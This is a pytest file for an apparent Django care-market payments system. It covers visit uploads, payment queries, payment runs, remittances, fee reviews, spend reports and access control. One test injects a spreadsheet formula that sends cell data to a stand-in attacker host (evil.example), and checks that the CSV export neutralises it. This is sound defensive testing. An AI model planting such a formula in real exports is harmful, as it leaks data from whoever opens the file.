"""The payment pages as providers and finance use them: visits sent, queries answered and
settled, the run started, watched, posted and downloaded, and the remittance advice."""

import csv
import datetime as dt
from decimal import Decimal
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader

from caremarket.events.models import Event
from caremarket.accounts.roles import Role
from caremarket.core import clock
from caremarket.packages.models import PackageChange
from caremarket.payments import runs
from caremarket.payments.models import Invoice, PaymentLine, PaymentQuery, PaymentRun, Visit
from caremarket.payments.tasks import complete_payment_run

HEADER = "visit_id,package,planned_start,planned_end,actual_start,actual_end,carers\n"
VISITS = ("V1,CP-000777,2026-10-14 08:00,2026-10-14 08:30,2026-10-14 08:02,2026-10-14 08:31,1\n"
          "V2,CP-000777,2026-10-15 08:00,2026-10-15 08:30,,,1\n"  # missed
          "V3,CP-000777,2026-10-16 08:00,2026-10-16 08:30,2026-10-16 08:00,2026-10-16 08:30,1\n"
          "V1,CP-000777,2026-10-17 08:00,2026-10-17 08:30,2026-10-17 08:00,2026-10-17 08:30,1\n"  # duplicate
          "V5,CP-123456,2026-10-18 08:00,2026-10-18 08:30,2026-10-18 08:00,2026-10-18 08:30,1\n")  # unknown
NOVEMBER_12 = dt.datetime(2026, 11, 12, 10, 0, tzinfo=clock.LONDON)


@pytest.fixture(autouse=True)
def twelfth_of_november():
    with clock.frozen(NOVEMBER_12):
        yield


def _send(client, period, text, keep="yes"):
    return client.post("/payments/visits/", {
        "period": period.pk, "keep_valid_rows": keep,
        "file": SimpleUploadedFile("october.csv", text.encode(), content_type="text/csv")}, follow=True)


def test_a_provider_sends_visits_answers_a_query_and_finance_pays_it(
        calendar, hourly_package, home_care, finance, signed_in, django_capture_on_commit_callbacks):
    provider = signed_in(home_care.people.first())
    refused = _send(provider, calendar[8], HEADER + VISITS, keep="no")
    assert "The file was refused" in refused.content.decode() and not Visit.objects.exists()
    page = _send(provider, calendar[8], HEADER + VISITS).content.decode()
    assert "3 visits stored" in page
    assert "Visit V1 is also on row 2" in page and "&#x27;CP-123456&#x27; is not one of your care packages" in page
    query = PaymentQuery.objects.get(visit__visit_id="V2")
    assert provider.post(f"/payments/queries/{query.pk}/", {"answer-answer": ""}).status_code == 200  # error shown
    provider.post(f"/payments/queries/{query.pk}/", {"answer-answer": "The phone failed; the carer was there"})
    invoice = Invoice.objects.get()
    assert "Check the invoice before you submit it" in provider.get(f"/payments/invoices/{invoice.pk}/submit/").content.decode()
    provider.post(f"/payments/invoices/{invoice.pk}/submit/", {"acknowledge": "on"})
    assert "10 December 2026" in provider.get(f"/payments/invoices/{invoice.pk}/").content.decode()

    council = signed_in(finance)
    assert ">V2</a>" in council.get("/payments/queries/?status=answered").content.decode()
    assert "The phone failed" in council.get(f"/payments/queries/{query.pk}/").content.decode()
    council.post(f"/payments/queries/{query.pk}/", {"settle-decision": "accept",
                                                    "settle-resolution": "Confirmed with the citizen"})
    with clock.frozen(dt.datetime(2026, 11, 13, 9, 0, tzinfo=clock.LONDON)):
        with django_capture_on_commit_callbacks() as callbacks:
            council.post(f"/payments/periods/{calendar[8].pk}/run/")
        assert len(callbacks) == 1  # the worker is asked to work out the run
        run = PaymentRun.objects.get()
        assert 'hx-trigger="every 2s"' in council.get(f"/payments/periods/{calendar[8].pk}/",
                                                      HTTP_HX_REQUEST="true").content.decode()
        complete_payment_run.call(run.pk, finance.pk)
        assert provider.get(f"/payments/runs/{run.pk}/remittances/{home_care.pk}/").status_code == 404  # a draft
        council.post(f"/payments/periods/{calendar[8].pk}/post/")

    remittance = provider.get(f"/payments/runs/{run.pk}/remittances/{home_care.pk}/").content.decode()
    assert "£33.75" in remittance and invoice.reference in remittance  # V1, V2 as planned, V3: 3 × £11.25
    pdf = provider.get(f"/payments/runs/{run.pk}/remittances/{home_care.pk}.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    for wanted in (finance.organisation.name, home_care.name, "Remittance advice", "Payment date 17 November 2026",
                   f"{invoice.reference} 1 £33.75", "Invoice 1 £33.75", "Page 1 of 1",
                   f"{invoice.reference} Invoice 14 Oct 2026 to 10 Nov 2026"):  # a line: its kind in words
        assert wanted in text, wanted
    file = council.get(f"/payments/periods/{calendar[8].pk}/payment-file.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(file)))
    assert [(r["invoice"], r["amount"]) for r in rows] == [(invoice.reference, "33.75")]
    paid = provider.get("/payments/").content.decode()
    assert "17 November 2026" in paid and "£33.75" in paid


# The worker closes its database connection between tasks, as a real worker process does.
def test_a_large_file_is_checked_by_a_background_worker_while_the_page_waits(
        committed_db, calendar, hourly_package, home_care, signed_in, settings):
    from django.core.management import call_command
    from django_tasks_db.models import DBTaskResult

    from caremarket.payments import ingest
    from caremarket.payments.models import VisitUpload, WaitingVisitFile

    settings.VISIT_FILE_ROWS_CHECKED_AT_ONCE = 2  # a file of more rows waits for the worker
    provider = signed_in(home_care.people.first())
    page = _send(provider, calendar[8], HEADER + VISITS).content.decode()
    assert DBTaskResult.objects.filter(task_path__endswith="check_visit_file").count() == 1  # the worker is asked
    assert "Checking october.csv" in page and 'hx-trigger="every 2s"' in page and not Visit.objects.exists()
    upload = VisitUpload.objects.get()
    listed = provider.get("/payments/visits/").content.decode()
    assert "Being checked</td>" in listed and "0 of 0 rows" not in listed

    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)
    page = provider.get(f"/payments/visits/{upload.pk}/").content.decode()
    assert "3 visits stored" in page and "Visit V1 is also on row 2" in page and "hx-trigger" not in page
    assert not WaitingVisitFile.objects.exists()  # the file's bytes are not kept once checked
    assert ingest.check_waiting_file(upload.pk).stored == 3 and Visit.objects.count() == 3  # again: no change


def test_another_provider_sees_none_of_it(calendar, hourly_package, home_care, finance, signed_in, make_user):
    from caremarket.tendering.tests.conftest import approved_provider

    _send(signed_in(home_care.people.first()), calendar[8], HEADER + VISITS)
    run = runs.run_period(calendar[8], finance)
    runs.post_run(run, finance)
    other = signed_in(approved_provider("Birch Care", "1-500000002", make_user=make_user).people.first())
    invoice, query = Invoice.objects.get(), PaymentQuery.objects.first()
    for path in (f"/payments/invoices/{invoice.pk}/", f"/payments/invoices/{invoice.pk}/visits.csv",
                 f"/payments/queries/{query.pk}/", f"/payments/runs/{run.pk}/remittances/{home_care.pk}/",
                 f"/payments/runs/{run.pk}/remittances/{home_care.pk}.pdf"):
        assert other.get(path).status_code == 404, path
    assert other.post(f"/payments/invoices/{invoice.pk}/submit/").status_code == 404
    assert other.get(f"/payments/periods/{calendar[8].pk}/").status_code == 403


def test_a_package_change_is_asked_for_and_approved_by_someone_else(
        calendar, care_home, citizen, broker, finance, signed_in, make_user, council):
    from .conftest import make_package

    package = make_package(citizen, care_home, broker)
    asker = signed_in(broker)
    page = asker.post(f"/care-packages/{package.pk}/changes/", {"kind": "end", "effective_from": "20/10/2026",
                                                                "reason": "Died in hospital"})
    assert "Say why the package ended" in page.content.decode()
    asker.post(f"/care-packages/{package.pk}/changes/", {"kind": "end", "effective_from": "20/10/2026",
                                                         "end_cause": "death", "reason": "Died in hospital"})
    change = PackageChange.objects.get()
    own = signed_in(make_user(Role.FINANCE_OFFICER, council, username="asker@council.test"))
    assert own.get("/package-changes/").status_code == 200
    approver = signed_in(finance)
    check = approver.get(f"/package-changes/{change.pk}/decide/").content.decode()
    assert "The package ends: nothing is paid for care after 20 October 2026" in check
    assert "Tick the box" in approver.post(f"/package-changes/{change.pk}/decide/", {"decision": "approve"}).content.decode()
    approver.post(f"/package-changes/{change.pk}/decide/", {"decision": "approve", "acknowledge": "on"})
    package.refresh_from_db()
    assert package.end_on == dt.date(2026, 10, 20)
    line = runs.run_period(calendar[8], finance).lines.get()
    assert (line.first_day, line.last_day, line.amount_pence) == (dt.date(2026, 10, 14), dt.date(2026, 10, 20), 82500)


def test_the_requester_cannot_approve_their_own_change(calendar, care_home, citizen, finance, signed_in):
    from .conftest import make_package

    package = make_package(citizen, care_home, finance)
    client = signed_in(finance)
    client.post(f"/care-packages/{package.pk}/changes/", {"kind": "suspension", "effective_from": "01/11/2026",
                                                          "effective_to": "07/11/2026", "reason": "In hospital"})
    change = PackageChange.objects.get()
    page = client.post(f"/package-changes/{change.pk}/decide/", {"decision": "approve", "acknowledge": "on"},
                       follow=True)
    assert "Someone other than the person who asked" in page.content.decode()
    assert PackageChange.objects.get().status == "proposed"


def test_finance_reviews_next_years_fees_and_publishes_them(db, finance, signed_in, provider, make_user):
    from caremarket.fees.models import FeeSchedule

    client = signed_in(finance)
    form = client.get("/fees/review/").content.decode()
    assert "Staff share of costs: Home support" in form
    shares = {name: "0.6" for name in re.findall(r'name="(staff_share_[^"]+)"', form)}
    bad = client.post("/fees/review/", {"cpi_percent": "2.8", "index": "cpih"})
    assert "Enter the CPIH" in bad.content.decode() and "Enter the National Living Wage change" in \
        bad.content.decode()
    response = client.post("/fees/review/", {
        "cpi_percent": "2.8", "cpih_percent": "3.0", "index": "cpih", "nlw_change_percent": "6.7",
        "pension_ni_percent": "1.2", "affordability_cap_percent": "6", **shares}, follow=True)
    page = response.content.decode()
    assert "2027/28 fee schedule" in page and "This schedule is a draft" in page
    staff = signed_in(make_user(Role.PROVIDER_ADMIN, provider))
    assert staff.get("/fees/2027/").status_code == 404  # providers see only published fees
    check = client.get("/fees/2027/publish/").content.decode()
    assert "Check the 2027/28 fees before you publish them" in check
    warning = check[check.find("govuk-warning-text"):]
    assert "NHS-funded nursing care" in warning and "is missing" in warning  # the NHS sets it, not the review
    assert "Tick the box" in client.post("/fees/2027/publish/").content.decode()
    assert not FeeSchedule.objects.get(start_year=2027).is_published
    client.post("/fees/2027/publish/", {"acknowledge": "on"})
    assert FeeSchedule.objects.get(start_year=2027).is_published
    assert staff.get("/fees/2027/").status_code == 200
    assert "£21.00 an hour" in staff.get("/fees/").content.decode()  # the 2026/27 direct payment rate


def test_spend_is_shown_by_area_service_and_provider(calendar, care_home, citizen, broker, finance, signed_in):
    from .conftest import make_package

    make_package(citizen, care_home, broker)
    runs.post_run(runs.run_period(calendar[8], finance), finance)
    page = signed_in(finance).get("/payments/spend/").content.decode()
    assert page.count("£3,300.00") == 4  # 28 days at £825 a week: total, area, service and provider


def test_spend_adds_up_with_results_and_voucher_payments_as_lines_of_their_own(
        calendar, care_home, home_care, citizen, broker, finance, signed_in):
    from caremarket.payments.models import PaymentDue

    from .conftest import make_package

    make_package(citizen, care_home, broker)
    PaymentDue.objects.create(reference="CARERS-2026-Q1", organisation=home_care, service="Carers support: block "
                              "payment", due_on=dt.date(2026, 10, 20), amount_pence=1_000_000_00, reason="Quarter 1",
                              decided_at=NOVEMBER_12)
    runs.post_run(runs.run_period(calendar[8], finance), finance)
    client = signed_in(finance)
    page = client.get("/payments/spend/").content.decode()
    assert "£1,003,300.00" in page  # the total
    assert "Not by area: contracts paid by results" in page and "Carers support: block payment" in page
    assert 'data-chart="by-service"' in page
    rows = list(csv.DictReader(io.StringIO(b"".join(client.get("/payments/spend/?format=csv").streaming_content)
                                           .decode())))
    for grouping in ("Area", "Service", "Provider"):  # each way of dividing it adds up to the total
        assert sum(Decimal(r["Paid (£)"]) for r in rows if r["By"] == grouping) == Decimal("1003300.00")


def test_an_invoice_in_a_posted_run_is_due_to_be_paid_until_its_payment_date(calendar, hourly_package, home_care,
                                                                              finance, signed_in):
    provider = signed_in(home_care.people.first())
    _send(provider, calendar[8], HEADER + VISITS)
    invoice = Invoice.objects.get()
    provider.post(f"/payments/invoices/{invoice.pk}/submit/", {"acknowledge": "on"})
    council = signed_in(finance)
    assert "Due to be paid on 17 November 2026" in council.get("/payments/").content.decode()
    runs.post_run(runs.run_period(calendar[8], finance), finance)
    approved = Event.objects.get(kind="invoice.approved")
    assert approved.subject == f"invoice {invoice.reference}"
    assert approved.data["amount_pence"] == PaymentLine.objects.get(invoice=invoice).amount_pence > 0
    before = provider.get(f"/payments/invoices/{invoice.pk}/").content.decode()
    assert "Due to be paid on 17 November 2026" in before and "Paid on" not in before
    assert "In a posted payment run" in provider.get("/payments/").content.decode()
    with clock.frozen(dt.datetime(2026, 11, 17, 9, 0, tzinfo=clock.LONDON)):
        after = provider.get(f"/payments/invoices/{invoice.pk}/").content.decode()
        assert "Paid on 17 November 2026" in after and "Due to be paid on" not in after
        assert "Paid on 17 November 2026" in council.get("/payments/").content.decode()


def test_a_visit_id_written_as_a_formula_reaches_the_csv_download_neutralised(calendar, hourly_package, home_care,
                                                                               finance, signed_in):
    provider = signed_in(home_care.people.first())
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    row = f'"{formula.replace(chr(34), chr(34) * 2)}",CP-000777,2026-10-14 08:00,2026-10-14 08:30,,,1\n'
    assert "1 visit stored" in _send(provider, calendar[8], HEADER + row).content.decode()
    invoice = Invoice.objects.get()
    for client in (provider, signed_in(finance)):
        download = client.get(f"/payments/invoices/{invoice.pk}/visits.csv").content.decode()
        header, cells = list(csv.reader(io.StringIO(download)))[:2]
        assert cells[0] == "'" + formula
        assert "amount_pence" not in header  # a provider reads pounds, not the database's pence
        amount = cells[header.index("amount")]
        assert amount == f"{Visit.objects.get().amount_pence / 100:.2f}"


def _invoice(organisation, period, reference, status, due_on=None):
    return Invoice.objects.create(reference=reference, organisation=organisation, period=period, status=status,
                                  received_at=NOVEMBER_12 if due_on else None, due_on=due_on)


def test_the_invoice_list_opens_on_unpaid_invoices_for_finance_and_downloads_what_is_filtered(
        calendar, care_home, home_care, finance, signed_in):
    _invoice(home_care, calendar[7], "INV-HC-07", Invoice.Status.RECEIVED, due_on=dt.date(2026, 11, 1))  # late
    _invoice(home_care, calendar[8], "INV-HC-08", Invoice.Status.RECEIVED, due_on=dt.date(2026, 12, 10))
    _invoice(care_home, calendar[8], "INV-CH-08", Invoice.Status.DRAFT)
    council = signed_in(finance)
    unpaid = council.get("/payments/invoices/").content.decode()
    assert "INV-HC-07" in unpaid and "INV-HC-08" in unpaid and "INV-CH-08" not in unpaid
    assert "Showing <b>1</b> to <b>2</b> of <b>2</b> invoices" in unpaid
    late = council.get("/payments/invoices/?status=late").content.decode()
    assert "INV-HC-07" in late and "INV-HC-08" not in late
    found = council.get(f"/payments/invoices/?status=&q={care_home.name[:6]}").content.decode()
    assert "INV-CH-08" in found and "INV-HC-08" not in found
    download = b"".join(council.get("/payments/invoices/?sort=-due&format=csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(download)))
    assert [(r["Invoice"], r["Due by"], r["Payable now (£)"]) for r in rows] == [
        ("INV-HC-08", "2026-12-10", "0.00"), ("INV-HC-07", "2026-11-01", "0.00")]


def test_a_provider_lists_only_its_own_invoices_and_cannot_search_by_another_providers_name(
        calendar, care_home, home_care, signed_in):
    _invoice(home_care, calendar[8], "INV-HC-08", Invoice.Status.RECEIVED, due_on=dt.date(2026, 12, 10))
    _invoice(care_home, calendar[8], "INV-CH-08", Invoice.Status.RECEIVED, due_on=dt.date(2026, 12, 10))
    provider = signed_in(home_care.people.first())
    page = provider.get("/payments/invoices/").content.decode()
    assert "INV-HC-08" in page and "INV-CH-08" not in page
    found = provider.get("/payments/invoices/?q=INV-CH-08").content.decode()
    assert ">INV-CH-08</a>" not in found and "No invoices match these filters" in found
    download = b"".join(provider.get("/payments/invoices/?format=csv").streaming_content).decode()
    assert "INV-CH-08" not in download and care_home.name not in download


def test_a_care_home_is_not_asked_for_visits_nor_spare_home_support_hours(care_home, home_care, signed_in):
    home = signed_in(care_home.people.first())
    page = home.get("/payments/").content.decode()
    assert "Send a period's visits" not in page and "Home support is paid from the visits" not in page
    assert home.get("/payments/visits/").status_code == 403
    assert "Your spare capacity" not in home.get("/opportunities/").content.decode()
    agency = signed_in(home_care.people.first())
    assert "Send a period's visits" in agency.get("/payments/").content.decode()
    assert "Your spare capacity" in agency.get("/opportunities/").content.decode()


def _answers(client, text):
    return client.post("/payments/queries/answers/", {
        "file": SimpleUploadedFile("answers.csv", text.encode(), content_type="text/csv")}, follow=True)


def test_a_provider_answers_many_queries_from_a_file_all_or_none(calendar, hourly_package, home_care, signed_in):
    provider = signed_in(home_care.people.first())
    missed = ("W1,CP-000777,2026-10-15 08:00,2026-10-15 08:30,,,1\n"
              "W2,CP-000777,2026-10-16 08:00,2026-10-16 08:30,,,1\n")
    _send(provider, calendar[8], HEADER + missed)
    assert PaymentQuery.objects.filter(status="open").count() == 2
    refused = _answers(provider, "visit_id,answer,claimed_minutes\nW1,The phone failed,30\nW2,,\nW9,Hmm,\n")
    page = refused.content.decode()
    assert "Row 3: say what happened on visit W2" in page
    assert not PaymentQuery.objects.filter(status="answered").exists()
    unknown = _answers(provider, "visit_id,answer,claimed_minutes\nW1,The phone failed,30\nW9,Hmm,\n").content.decode()
    assert "Visit W9 has no query waiting for your answer" in unknown
    assert not PaymentQuery.objects.filter(status="answered").exists()
    done = _answers(provider, "visit_id,answer,claimed_minutes\nW1,The phone failed,30\nW2,Carer was ill,\n")
    assert "2 answers were sent" in done.content.decode()
    assert dict(PaymentQuery.objects.values_list("visit__visit_id", "claimed_minutes")) == {"W1": 30, "W2": None}


def test_after_answering_a_query_the_next_one_opens(calendar, hourly_package, home_care, signed_in):
    provider = signed_in(home_care.people.first())
    _send(provider, calendar[8], HEADER + "W1,CP-000777,2026-10-15 08:00,2026-10-15 08:30,,,1\n"
                                          "W2,CP-000777,2026-10-16 08:00,2026-10-16 08:30,,,1\n")
    first, second = PaymentQuery.objects.order_by("visit__planned_start")
    assert "Next query: visit W2" in provider.get(f"/payments/queries/{first.pk}/").content.decode()
    answered = provider.post(f"/payments/queries/{first.pk}/", {"answer-answer": "The phone failed"})
    assert answered.url == f"/payments/queries/{second.pk}/"
    assert provider.post(f"/payments/queries/{second.pk}/", {"answer-answer": "Ill"}).url == "/payments/queries/"


def test_a_provider_ticks_many_queries_and_answers_them_at_once(calendar, hourly_package, home_care, signed_in,
                                                               finance):
    provider = signed_in(home_care.people.first())
    _send(provider, calendar[8], HEADER + "W1,CP-000777,2026-10-15 08:00,2026-10-15 08:30,,,1\n"
                                          "W2,CP-000777,2026-10-16 08:00,2026-10-16 08:30,,,1\n"
                                          "W3,CP-000777,2026-10-17 08:00,2026-10-17 08:30,,,1\n")
    w1, w2, w3 = PaymentQuery.objects.order_by("visit__planned_start")
    listed = provider.get("/payments/queries/").content.decode()
    assert listed.count('name="queries"') == 3 and "Answer the selected queries" in listed
    nothing = provider.post("/payments/queries/answer-selected/", {"answer": "The phone failed"}).content.decode()
    assert 'href="#id_queries_0"' in nothing and "Select the queries to answer" in nothing
    silent = provider.post("/payments/queries/answer-selected/", {"queries": [w1.pk]}).content.decode()
    assert "Say what happened on the selected visits" in silent and f'value="{w1.pk}" id="id_queries_0" checked' in silent
    done = provider.post("/payments/queries/answer-selected/?status=open", {"queries": [w1.pk, w3.pk],
                                                                            "answer": "The phone failed"})
    assert done.url == "/payments/queries/?status=open"
    assert dict(PaymentQuery.objects.values_list("visit__visit_id", "status")) == {
        "W1": "answered", "W2": "open", "W3": "answered"}
    assert "2 answers were sent" in provider.get(done.url).content.decode()
    council = signed_in(finance)
    assert "Answer the selected queries" not in council.get("/payments/queries/").content.decode()
    assert council.post("/payments/queries/answer-selected/", {"queries": [w2.pk], "answer": "x"}).status_code == 403
